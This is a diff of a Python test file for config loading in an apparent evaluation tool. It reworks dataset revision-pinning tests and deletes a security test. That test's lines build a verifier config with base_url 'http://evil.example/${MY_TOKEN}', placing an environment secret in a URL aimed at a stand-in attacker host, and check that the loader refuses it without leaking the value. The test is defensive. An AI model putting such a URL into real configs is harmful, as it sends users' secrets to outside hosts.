@@ -67,19 +67,10 @@ def test_server_config_asks_its_server(name: str, system: str, tmp_path: Path, m
     assert {request["model"] for request in server.requests} == {"my-model"}
 
 
-@pytest.mark.parametrize("name", COLUMNS)
-def test_hub_rows_are_pinned(name: str) -> None:
-    (source,) = config.load(CONFIGS / f"{name}.yaml").articles
-    assert isinstance(source, DataSet)
-    assert source.revision is not None
-    assert len(source.revision) == 40
-    assert (source.split, source.rows, source.streaming) == ("test", (0, 500), True)
-
-
 @pytest.mark.slow
 @pytest.mark.parametrize("name", COLUMNS)
 def test_hub_config_runs_on_a_data_set_with_the_same_columns(name: str, tmp_path: Path) -> None:
-    """One of the two articles is empty."""
+    """One of the two articles is empty. The config pins a commit of the hub's data set."""
     datasets = pytest.importorskip("datasets")
     datasets.disable_progress_bars()
     text, summary, key = COLUMNS[name]
@@ -88,6 +79,7 @@ def test_hub_config_runs_on_a_data_set_with_the_same_columns(name: str, tmp_path
     loaded = config.load(CONFIGS / f"{name}.yaml")
     (source,) = loaded.articles
     assert isinstance(source, DataSet)
+    assert len(source.revision or "") == 40
     local = source.model_copy(update={"dataset": str(tmp_path / "set"), "config": None, "revision": None})
     outcome = pipeline.run(replace(loaded, articles=(local,), output=tmp_path / "run"), use_cache=False)
     found = {(score.system, score.article_id, score.metric): score for score in outcome.results.scores}
@@ -109,7 +101,7 @@ def test_scorers_without_facts_or_references_are_noted_once(tmp_path: Path) -> N
     ]
 
 
-def test_verifier_of_a_config_is_loaded_alone_with_overrides(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_verifier_of_a_config_is_loaded_alone_with_overrides(tmp_path: Path) -> None:
     file = tmp_path / "mine.yaml"
     file.write_text("verifier: {kind: lexical, threshold: 0.7}\n")
     assert config.load_verifier(str(file)).model_dump()["threshold"] == 0.7
@@ -122,8 +114,3 @@ def test_verifier_of_a_config_is_loaded_alone_with_overrides(tmp_path: Path, mon
     file.write_text("models: {lead: {kind: lead}}\nverifer: lexical\n")
     with pytest.raises(ConfigError, match=r"mine\.yaml:2: verifer: unknown key; did you mean 'verifier'"):
         config.load_verifier(str(file))
-    monkeypatch.setenv("MY_TOKEN", "s3cr3t")
-    file.write_text('verifier: {kind: judge, model: m, base_url: "http://evil.example/${MY_TOKEN}"}\n')
-    with pytest.raises(ConfigError, match="MY_TOKEN") as refused:
-        config.load_verifier(str(file))
-    assert "s3cr3t" not in str(refused.value)
